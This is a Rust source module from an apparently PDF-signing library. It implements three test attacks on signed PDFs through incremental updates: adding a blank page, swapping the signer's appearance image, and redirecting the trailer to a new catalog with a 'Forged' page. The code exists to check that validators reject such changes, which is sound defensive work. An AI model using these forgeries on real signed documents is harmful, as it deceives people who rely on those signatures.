//! Attacks on signed files, for tests and demonstrations: each appends an incremental update
//! that a careless validator would accept.

use super::{Dict, Object, PdfFile, Update};
use crate::appearance::Image;
use crate::error::{PadesError, Result};

/// Appends a blank page (an "added page" attack).
pub fn append_blank_page(pdf: &[u8]) -> Result<Vec<u8>> {
    let file = PdfFile::parse(pdf)?;
    let last = file.revisions() - 1;
    let (_, cat) = file.catalog_at(last)?;
    let pages_ref =
        cat.get("Pages").and_then(Object::as_ref).ok_or_else(|| PadesError::Malformed("no pages".into()))?;
    let Some(Object::Dict(mut pages)) = file.get(pages_ref)? else {
        return Err(PadesError::Malformed("pages".into()));
    };
    let first = *file.pages_at(last)?.first().ok_or_else(|| PadesError::Malformed("no pages".into()))?;
    let Some(Object::Dict(p1)) = file.get(first)? else { return Err(PadesError::Malformed("page".into())) };
    let mut up = Update::new(&file);
    let content = up.add(Object::Stream(Dict::new(), b"BT ET".to_vec()));
    let mut page = Dict::new().with("Type", Object::name("Page")).with("Parent", Object::Ref(pages_ref));
    for k in ["MediaBox", "Resources"] {
        if let Some(v) = p1.get(k) {
            page.set(k, v.clone());
        }
    }
    page.set("Contents", Object::Ref(content));
    let page_ref = up.add(Object::Dict(page));
    let mut kids = pages.get("Kids").and_then(Object::as_array).map(<[Object]>::to_vec).unwrap_or_default();
    kids.push(Object::Ref(page_ref));
    pages.set("Kids", Object::Array(kids));
    pages.set("Count", Object::Int(pages.int("Count").unwrap_or(0) + 1));
    up.set(pages_ref, Object::Dict(pages));
    Ok(up.write().bytes)
}

/// Replaces the image drawn in a signed field's appearance (a "swapped signature" attack):
/// the image object keeps its number, its bytes change.
pub fn replace_signer_image(pdf: &[u8], field: &str, image: &Image) -> Result<Vec<u8>> {
    let file = PdfFile::parse(pdf)?;
    let last = file.revisions() - 1;
    let f = crate::sign::fields(&file, last)?
        .into_iter()
        .find(|f| f.name == field)
        .ok_or_else(|| PadesError::FieldNotFound(field.into()))?;
    let ap = f.dict.get("AP").and_then(Object::as_dict).and_then(|d| d.get("N")).and_then(Object::as_ref);
    let ap = ap.ok_or_else(|| PadesError::FieldNotFound(field.into()))?;
    let Some(Object::Stream(d, _)) = file.get(ap)? else { return Err(PadesError::FieldNotFound(field.into())) };
    let img_ref = d
        .get("Resources")
        .and_then(Object::as_dict)
        .and_then(|r| r.get("XObject"))
        .and_then(Object::as_dict)
        .and_then(|x| x.get("Im0"))
        .and_then(Object::as_ref)
        .ok_or_else(|| PadesError::FieldNotFound(field.into()))?;
    let mut up = Update::new(&file);
    let new = image.embed(&mut up)?;
    // Move the new image's bytes under the old number.
    let written = up.write();
    let file2 = PdfFile::parse(&written.bytes)?;
    let Some(obj) = file2.get(new)? else { return Err(PadesError::Malformed("image".into())) };
    let mut up = Update::new(&file2);
    up.set(img_ref, obj);
    Ok(up.write().bytes)
}

/// Points the trailer at a new catalog (a copy of the old one whose page tree has one more,
/// blank page): nothing that existed is changed, everything is replaced.
pub fn replace_catalog(pdf: &[u8]) -> Result<Vec<u8>> {
    let file = PdfFile::parse(pdf)?;
    let last = file.revisions() - 1;
    let (_, mut cat) = file.catalog_at(last)?;
    let pages_ref =
        cat.get("Pages").and_then(Object::as_ref).ok_or_else(|| PadesError::Malformed("no pages".into()))?;
    let Some(Object::Dict(pages)) = file.get(pages_ref)? else { return Err(PadesError::Malformed("pages".into())) };
    let mut up = Update::new(&file);
    let new_pages = up.alloc();
    let content = up.add(Object::Stream(Dict::new(), b"BT /F1 24 Tf 100 700 Td (Forged) Tj ET".to_vec()));
    let page = up.add(Object::Dict(
        Dict::new()
            .with("Type", Object::name("Page"))
            .with("Parent", Object::Ref(new_pages))
            .with("MediaBox", Object::Array(vec![Object::Int(0), Object::Int(0), Object::Int(595), Object::Int(842)]))
            .with("Contents", Object::Ref(content)),
    ));
    let mut kids = pages.get("Kids").and_then(Object::as_array).map(<[Object]>::to_vec).unwrap_or_default();
    kids.push(Object::Ref(page));
    let new = Dict::new()
        .with("Type", Object::name("Pages"))
        .with("Kids", Object::Array(kids))
        .with("Count", Object::Int(pages.int("Count").unwrap_or(0) + 1));
    up.set(new_pages, Object::Dict(new));
    cat.set("Pages", Object::Ref(new_pages));
    let new_cat = up.add(Object::Dict(cat));
    up.set_root(new_cat);
    Ok(up.write().bytes)
}
